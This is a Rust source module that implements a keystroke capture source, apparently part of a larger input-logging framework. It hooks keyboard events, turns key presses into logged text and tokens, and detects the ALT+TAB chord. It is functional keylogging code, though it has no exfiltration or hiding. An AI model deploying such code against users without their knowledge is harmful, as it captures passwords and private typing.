//! Keystroke capture source.
//!
//! Registers for the keyboard category and turns key-down payloads into log
//! tokens: a fixed set of non-printable keys map to named tokens, an
//! alt/tab chord recognizer emits `[ALT+TAB]` for the window-switch
//! combination, and everything else goes through the platform's
//! keyboard-layout translation so the logged character matches what the
//! user actually typed. Key-up payloads only update chord state.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, Weak};

use crate::hooks::{HookRegistry, KeyEvent, KeyboardObserver};
use crate::platform::KeyTranslator;
use crate::sink::EventSink;
use crate::sources::{CaptureSource, SetupError};
use crate::stats::SharedSessionStats;

const VK_BACK: u32 = 0x08;
const VK_TAB: u32 = 0x09;
const VK_RETURN: u32 = 0x0D;
const VK_CAPITAL: u32 = 0x14;
const VK_SPACE: u32 = 0x20;
const VK_LSHIFT: u32 = 0xA0;
const VK_RSHIFT: u32 = 0xA1;
const VK_LCONTROL: u32 = 0xA2;
const VK_LMENU: u32 = 0xA4;

fn special_token(vk: u32) -> Option<&'static str> {
    match vk {
        VK_RETURN => Some("[ENTER]"),
        VK_BACK => Some("[BACKSPACE]"),
        VK_LCONTROL => Some("[LCTRL]"),
        VK_LSHIFT => Some("[LSHIFT]"),
        VK_RSHIFT => Some("[RSHIFT]"),
        VK_SPACE => Some("[SPACE]"),
        VK_CAPITAL => Some("[CAPSLOCK]"),
        _ => None,
    }
}

/// Keys whose layout translation can yield a printable character: digits,
/// letters, and the OEM punctuation blocks.
fn is_typable(vk: u32) -> bool {
    matches!(vk, 0x30..=0x39 | 0x41..=0x5A | 0xBA..=0xC0 | 0xDB..=0xDE)
}

#[derive(Default)]
struct ChordState {
    left_alt_held: bool,
    tab_pressed: bool,
}

/// The registered keyboard observer. Shared between the source (which owns
/// its lifecycle) and the hook registry (which keeps it alive while
/// registered).
struct KeystrokeObserver {
    translator: Arc<dyn KeyTranslator>,
    sink: Mutex<Option<Weak<EventSink>>>,
    chord: Mutex<ChordState>,
    stats: SharedSessionStats,
}

impl KeystrokeObserver {
    fn sink(&self) -> Option<Arc<EventSink>> {
        self.sink.lock().unwrap().as_ref()?.upgrade()
    }

    fn handle_key_down(&self, event: &KeyEvent, sink: &EventSink) {
        let mut chord = self.chord.lock().unwrap();

        match event.vk {
            VK_LMENU => {
                chord.left_alt_held = true;
            }
            VK_TAB => {
                if chord.left_alt_held {
                    chord.tab_pressed = true;
                } else {
                    // Tab on its own, or a TAB-then-ALT ordering: plain tab.
                    sink.write("[TAB]");
                    chord.tab_pressed = false;
                }
            }
            _ => {}
        }

        if chord.left_alt_held && chord.tab_pressed {
            sink.write("[ALT+TAB]");
            return;
        }
        if event.vk == VK_LMENU || event.vk == VK_TAB {
            return;
        }

        if let Some(token) = special_token(event.vk) {
            sink.write(token);
            return;
        }

        // Alt held with some non-tab key: log the chord marker, then the key.
        if chord.left_alt_held {
            sink.write("[ALT]");
        }

        if is_typable(event.vk) {
            if let Some(text) = self.translator.translate(event.vk, event.scan_code) {
                // Non-printable translation results are dropped, not logged.
                if !text.is_empty() && text.chars().all(|c| !c.is_control()) {
                    sink.write(&text);
                }
            }
        }
    }

    fn handle_key_up(&self, event: &KeyEvent) {
        let mut chord = self.chord.lock().unwrap();
        match event.vk {
            VK_LMENU => chord.left_alt_held = false,
            VK_TAB => chord.tab_pressed = false,
            _ => {}
        }
    }
}

impl KeyboardObserver for KeystrokeObserver {
    fn on_key_event(&self, event: &KeyEvent) {
        // Sink already gone means teardown is racing us; skip quietly.
        let Some(sink) = self.sink() else {
            return;
        };
        self.stats.record_key_event();

        if event.pressed {
            self.handle_key_down(event, &sink);
        } else {
            self.handle_key_up(event);
        }
    }
}

/// Capture source for keyboard input.
pub struct KeystrokeSource {
    registry: Arc<HookRegistry>,
    observer: Arc<KeystrokeObserver>,
    active: AtomicBool,
}

impl KeystrokeSource {
    pub fn new(
        registry: Arc<HookRegistry>,
        translator: Arc<dyn KeyTranslator>,
        stats: SharedSessionStats,
    ) -> Self {
        Self {
            registry,
            observer: Arc::new(KeystrokeObserver {
                translator,
                sink: Mutex::new(None),
                chord: Mutex::new(ChordState::default()),
                stats,
            }),
            active: AtomicBool::new(false),
        }
    }
}

impl CaptureSource for KeystrokeSource {
    fn name(&self) -> &'static str {
        "keystroke"
    }

    fn initialize(&self, sink: Weak<EventSink>) -> Result<(), SetupError> {
        if self.active.swap(true, Ordering::SeqCst) {
            return Err(SetupError::AlreadyActive(self.name()));
        }
        *self.observer.sink.lock().unwrap() = Some(sink);

        let observer: Arc<dyn KeyboardObserver> = self.observer.clone();
        if let Err(e) = self.registry.register_keyboard_observer(observer) {
            self.observer.sink.lock().unwrap().take();
            self.active.store(false, Ordering::SeqCst);
            return Err(e.into());
        }
        Ok(())
    }

    fn uninitialize(&self) {
        if !self.active.swap(false, Ordering::SeqCst) {
            return;
        }
        let observer: Arc<dyn KeyboardObserver> = self.observer.clone();
        self.registry.unregister_keyboard_observer(&observer);
        self.observer.sink.lock().unwrap().take();
    }
}
